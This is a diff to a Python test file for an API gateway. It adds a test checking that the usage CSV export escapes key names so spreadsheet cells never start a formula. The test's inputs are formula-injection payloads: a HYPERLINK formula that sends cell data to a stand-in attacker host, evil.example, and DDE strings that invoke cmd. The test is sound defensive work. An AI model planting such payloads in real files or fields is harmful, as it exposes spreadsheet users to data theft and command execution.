@@ -6,7 +6,9 @@ from __future__ import annotations
 
 import asyncio
 import contextlib
+import csv
 import dataclasses
+import io
 import ipaddress
 import os
 import socket
@@ -20,6 +22,7 @@ import httpx
 import pytest
 
 from conftest import Gateway, free_base, wait_for
+from test_console_keys_usage import create_key
 from test_console_support import PASSWORD, ConsoleClient, mail_link, mails, new_email, signed_up
 from control.console.launch import ConfigError, console_proc
 from control.launcher import Stack
@@ -310,3 +313,27 @@ def test_invitations_are_limited_per_address_and_per_organisation(gateway: Gatew
     got = [owner.post("/members/invite", {"email": new_email(), "role": "member"}).status_code for _ in range(20)]
     assert got == [303] * 16 + [429] * 4, got
     assert gateway.sql("SELECT count(*) AS n FROM invites WHERE org_id = $1", org)[0]["n"] == 19
+
+
+# ---- 6. CSV formula injection --------------------------------------------------------------------
+
+def test_usage_csv_cells_never_start_a_formula(gateway: Gateway) -> None:
+    c, _, org = signed_up(gateway)
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|'/C calc'!A0",
+             "plain name"]
+    rids = {}
+    for name in names:
+        _, key = create_key(c, name)
+        r = httpx.post(gateway.v1 + "/chat/completions", headers={"Authorization": f"Bearer {key}"},
+                       json={"model": "polish-fast", "messages": [{"role": "user", "content": "x"}]}, timeout=30)
+        assert r.status_code == 200
+        rids[r.headers["x-request-id"]] = name
+    wait_for(lambda: len(gateway.sql("SELECT 1 FROM usage_records WHERE org_id = $1", org)) == len(names), timeout=15)
+    text = c.get("/usage.csv").text
+    got = {row["request_id"]: row for row in csv.DictReader(io.StringIO(text))}
+    assert set(got) == set(rids)
+    for rid, name in rids.items():
+        want = name if name == "plain name" else "'" + name
+        assert got[rid]["key_name"] == want, (got[rid]["key_name"], name)
+    for row in csv.reader(io.StringIO(text)):
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
